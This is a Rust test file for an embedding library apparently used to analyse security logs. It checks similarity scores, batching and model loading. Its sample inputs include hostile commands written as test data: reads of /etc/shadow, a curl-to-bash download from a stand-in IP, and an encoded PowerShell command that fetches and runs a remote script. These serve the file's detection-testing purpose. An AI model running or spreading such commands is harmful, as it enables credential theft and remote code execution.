//! The real model, as `scripts/setup.sh` installs it (offline).

use std::path::PathBuf;
use std::sync::OnceLock;

use vigil_embed::{EmbedConfig, EmbedError, Embedder, DIM};

fn embedder() -> &'static Embedder {
    static E: OnceLock<Embedder> = OnceLock::new();
    E.get_or_init(|| match Embedder::load(&EmbedConfig::default()) {
        Ok(e) => e,
        Err(e) => panic!("{e}"),
    })
}

fn cosine(a: &[f32], b: &[f32]) -> f32 {
    a.iter().zip(b).map(|(x, y)| x * y).sum::<f32>()
}

#[test]
fn similar_commands_are_close_and_unrelated_lines_are_not() -> Result<(), EmbedError> {
    let v = embedder().embed(&["cat /etc/shadow", "tail -n 10 /etc/shadow", "GET /index.html HTTP/1.1 200"])?;
    assert_eq!(v.len(), 3);
    for x in &v {
        assert_eq!(x.len(), DIM);
        let norm = x.iter().map(|a| a * a).sum::<f32>().sqrt();
        assert!((norm - 1.0).abs() < 1e-4, "norm {norm}");
    }
    let near = cosine(&v[0], &v[1]);
    let far = cosine(&v[0], &v[2]);
    assert!(near > 0.45, "cat/tail /etc/shadow: {near}");
    assert!(far < 0.25, "cat /etc/shadow vs GET: {far}");
    Ok(())
}

#[test]
fn batched_embed_matches_naive_in_order() -> Result<(), EmbedError> {
    let base = [
        "sshd[2211]: Failed password for invalid user admin from 203.0.113.7 port 52113 ssh2",
        "ls",
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgA1AC8AYQAnACkA",
        "curl -s http://198.51.100.23/x.sh | bash",
        "kernel: Out of memory: Killed process 4242 (python3) total-vm:2048000kB",
        "",
        "GET /index.html HTTP/1.1 200",
        "Accepted publickey for deploy from 10.0.0.12 port 40022 ssh2: ED25519 SHA256:abc",
    ];
    let texts: Vec<String> = (0..40).map(|i| format!("{} {}", base[i % base.len()], "x ".repeat(i % 7))).collect();
    let refs: Vec<&str> = texts.iter().map(String::as_str).collect();
    let sorted = embedder().embed(&refs)?;
    let naive = embedder().embed_naive(&refs)?;
    assert_eq!(sorted.len(), refs.len());
    assert_eq!(naive.len(), refs.len());
    for (i, (a, b)) in sorted.iter().zip(&naive).enumerate() {
        let c = cosine(a, b);
        assert!(c > 0.999, "text {i} {:?}: cosine {c}", refs[i]);
    }
    assert!(embedder().embed(&[])?.is_empty());
    Ok(())
}

#[test]
fn model_id_names_model_variant_and_file() {
    let id = embedder().model_id();
    assert!(id.starts_with("all-MiniLM-L6-v2/"), "{id}");
    let hash = id.rsplit_once('@').map(|(_, h)| h).unwrap_or("");
    assert_eq!(hash.len(), 8, "{id}");
    assert!(hash.chars().all(|c| c.is_ascii_hexdigit()), "{id}");
}

#[test]
fn missing_model_dir_is_an_error_naming_the_path() {
    let dir = PathBuf::from("/nonexistent/vigil-embed-test-model");
    let cfg = EmbedConfig { model_dir: dir.clone(), ..EmbedConfig::default() };
    let err = match Embedder::load(&cfg) {
        Ok(_) => panic!("loaded a model from {}", dir.display()),
        Err(e) => e,
    };
    let msg = err.to_string();
    assert!(matches!(err, EmbedError::MissingFile { .. }), "{err:?}");
    assert!(msg.contains("/nonexistent/vigil-embed-test-model/model.onnx"), "{msg}");
    assert!(msg.contains("scripts/setup.sh"), "{msg}");
}
